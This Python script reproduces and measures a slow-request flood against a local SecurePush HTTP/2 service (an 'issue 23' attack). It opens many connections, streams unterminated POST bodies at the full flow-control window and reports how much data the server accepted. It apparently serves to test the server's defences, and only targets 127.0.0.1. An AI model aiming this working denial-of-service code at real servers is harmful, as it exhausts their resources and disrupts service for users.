#!/usr/bin/env python3
"""Requests that never end, against one SecurePush service (issue 23's attack, measured).

Opens CONNECTIONS cleartext HTTP/2 connections to 127.0.0.1:PORT; on each, STREAMS `POST /rpc` streams whose bodies
are sent as fast as flow control allows and never ended. Runs until every stream was answered or reset (or SECONDS
pass) and prints one JSON object: how many bytes the server let in (the flow-control credit it returned), how the
streams ended and when.

    slow_requests.py PORT CONNECTIONS STREAMS SECONDS
"""
import json
import socket
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def attack(port, streams, seconds, report, start):
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    open_streams = []
    for _ in range(streams):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, [(":method", "POST"), (":path", "/rpc"), (":scheme", "http"),
                                   (":authority", "127.0.0.1"), ("content-type", "application/json")])
        open_streams.append(stream)
    sock.sendall(conn.data_to_send())
    ended = {}
    sent = 0
    sock.settimeout(0.05)
    while time.time() - start < seconds and len(ended) < len(open_streams):
        for stream in open_streams:
            if stream in ended:
                continue
            try:
                room = min(conn.local_flow_control_window(stream), 16384)
            except h2.exceptions.H2Error:
                continue
            if room > 0:
                conn.send_data(stream, b"[" * room)
                sent += room
        try:
            sock.sendall(conn.data_to_send())
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                ended.setdefault(event.stream_id, ("status " + dict(event.headers)[":status"], time.time() - start))
            elif isinstance(event, h2.events.StreamReset):
                ended.setdefault(event.stream_id, ("reset", time.time() - start))
            elif isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
    with report["lock"]:
        report["sent"] += sent
        report["streams"] += len(open_streams)
        for how, at in ended.values():
            report["ended"][how] = report["ended"].get(how, 0) + 1
            report["last_end"] = max(report["last_end"], at)
            report["first_end"] = min(report["first_end"], at)
    sock.close()


def main():
    port, connections, streams, seconds = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    report = {"lock": threading.Lock(), "sent": 0, "streams": 0, "ended": {}, "first_end": float("inf"),
              "last_end": 0.0}
    start = time.time()
    threads = [threading.Thread(target=attack, args=(port, streams, seconds, report, start)) for _ in
               range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    del report["lock"]
    report["first_end"] = round(report["first_end"], 2) if report["ended"] else None
    report["last_end"] = round(report["last_end"], 2)
    print(json.dumps(report))


if __name__ == "__main__":
    main()
